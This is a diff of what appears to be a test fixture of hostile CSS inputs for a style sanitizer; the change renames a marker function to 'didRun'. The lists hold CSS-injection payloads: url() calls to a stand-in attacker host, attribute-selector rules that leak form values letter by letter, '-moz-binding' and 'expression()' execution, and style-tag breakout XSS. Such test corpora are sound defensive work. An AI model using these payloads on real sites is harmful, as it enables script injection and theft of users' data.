@@ -44,9 +44,9 @@ const FETCHES = [
   `attr(data-x type(<url>), url(${EVIL}/q))`,
   `var(--none, url(${EVIL}/q))`,
   `env(none, url(${EVIL}/q))`,
-  'url("data:image/svg+xml,<svg onload=__ran(0) xmlns=http://www.w3.org/2000/svg/>")',
-  'url("data:text/html,<script>__ran(0)</script>")',
-  'url(javascript:__ran(0))',
+  'url("data:image/svg+xml,<svg onload=didRun(0) xmlns=http://www.w3.org/2000/svg/>")',
+  'url("data:text/html,<script>didRun(0)</script>")',
+  'url(javascript:didRun(0))',
 ];
 const PLACES = [
   'fixed',
@@ -141,9 +141,9 @@ export const RULES: readonly string[] = [
   ...[...'abcdef'].map(
     (letter) => `input[value^="${letter}"], a[href^="${letter}"] { background: url(${EVIL}/leak?${letter}) }`,
   ),
-  `p { behavior: url(#default#x); -moz-binding: url(${EVIL}/x.xml#y); width: expression(__ran(0)) }`,
+  `p { behavior: url(#default#x); -moz-binding: url(${EVIL}/x.xml#y); width: expression(didRun(0)) }`,
   `<style>p { background: url(${EVIL}/tag) }</style>`,
-  `</style><img src=x onerror=__ran(0)>`,
+  `</style><img src=x onerror=didRun(0)>`,
   `p { background: url(${EVIL}/open`,
   `p { content: "\\`,
   `p { color: red; /* } :host { position: fixed }`,
